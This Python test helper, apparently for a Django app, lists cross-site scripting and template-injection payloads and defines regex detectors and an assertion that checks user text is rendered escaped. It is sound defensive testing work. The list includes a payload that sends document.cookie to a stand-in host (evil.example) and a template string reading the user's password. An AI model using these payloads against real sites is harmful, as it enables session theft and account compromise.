"""Strings that try to run script or inject markup, shared by every test that shows user text.

Each page test posts them through the real forms and checks the rendered
HTML: none may reach the page as markup. `assert_escaped(html, payload)` is the
shared check: no raw `<script`, no event-handler attribute, no `javascript:`
link, and no template expression evaluated (`{{7*7}}` must not become 49).
"""

import re

XSS_PAYLOADS: list[str] = [
    # script tags
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>document.location='//evil.example/?c='+document.cookie</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/src=data:,alert(1)></script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<script\x20type='text/javascript'>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    # event handlers
    '"><img src=x onerror=alert(1)>',
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<body onload=alert(1)>",
    "'><body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    '<div onmouseover="alert(1)">hover</div>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<select onfocus=alert(1) autofocus>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    # javascript: and data: URLs
    '<a href="javascript:alert(1)">click</a>',
    "<a href=JaVaScRiPt:alert(1)>click</a>",
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    "javascript:alert(1)",
    '<iframe src="javascript:alert(1)"></iframe>',
    "<iframe src=//evil.example></iframe>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    # SVG and MathML
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<svg><foreignObject><iframe onload=alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<math href="javascript:alert(1)">x</math>',
    # broken and nested markup
    '<img src="x" onerror="alert(1)"',
    "<a href='x' onclick=alert(1)//",
    "<<img src=x onerror=alert(1)>>",
    "<div><p><b><i>unclosed",
    "</div></section></main><h1>taken over</h1>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<style><img src=x onerror=alert(1)></style>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    # encoded variants
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    # CSS
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width: expression(alert(1))">x</div>',
    "<style>@import 'javascript:alert(1)';</style>",
    '<link rel="stylesheet" href="javascript:alert(1)">',
    # template injection
    "{{7*7}}",
    "{% debug %}",
    "{{ request.user.password }}",
    "{% load static %}{% static 'x' %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
]

_TAG = re.compile(
    r"<\s*(script|iframe|object|embed|svg|math|img|body|style|meta|base|link|form|details|video|audio|input|select)\b",
    re.IGNORECASE,
)
_HANDLER = re.compile(r"<[a-z][^>]*[\s/\"']on[a-z]+\s*=", re.IGNORECASE)
_JS_LINK = re.compile(r"""<[a-z][^>]*[\s/"'](href|src|action|data)\s*=\s*["']?\s*(javascript|data):""", re.IGNORECASE)
_MARKUP_CHARACTERS = set("<>\"'")


def unsafe_markup(html: str) -> list[str]:
    """What in `html` looks like markup able to run script or load content; empty when it has none.

    Use it on the fragment of a page that shows user text, or compare a page
    with the same page before the payload was posted (`assert_escaped(baseline=...)`):
    a whole page has its own script, form and link tags.
    """
    found = []
    for pattern in (_TAG, _HANDLER, _JS_LINK):
        found.extend(match.group(0) for match in pattern.finditer(html))
    return found


def assert_escaped(html: str, payload: str, *, baseline: str | None = None, shown: bool = True) -> None:
    """The payload reached the page only as text.

    - a payload with markup characters never appears raw;
    - `shown`: its escaped text is on the page (it was displayed, not dropped);
    - `baseline` (the same page without the payload): the page has no more
      tags, event handlers or javascript:/data: links than before. (A shown
      `{{7*7}}` proves it was not evaluated.)
    """
    from django.utils.html import escape

    if _MARKUP_CHARACTERS & set(payload):
        assert payload not in html, f"raw payload on the page: {payload!r}"
    if shown:
        assert escape(payload) in html, f"payload not shown as text: {payload!r}"
    if baseline is not None:
        before, after = unsafe_markup(baseline), unsafe_markup(html)
        assert len(after) <= len(before), (payload, sorted(set(after) - set(before)) or after)
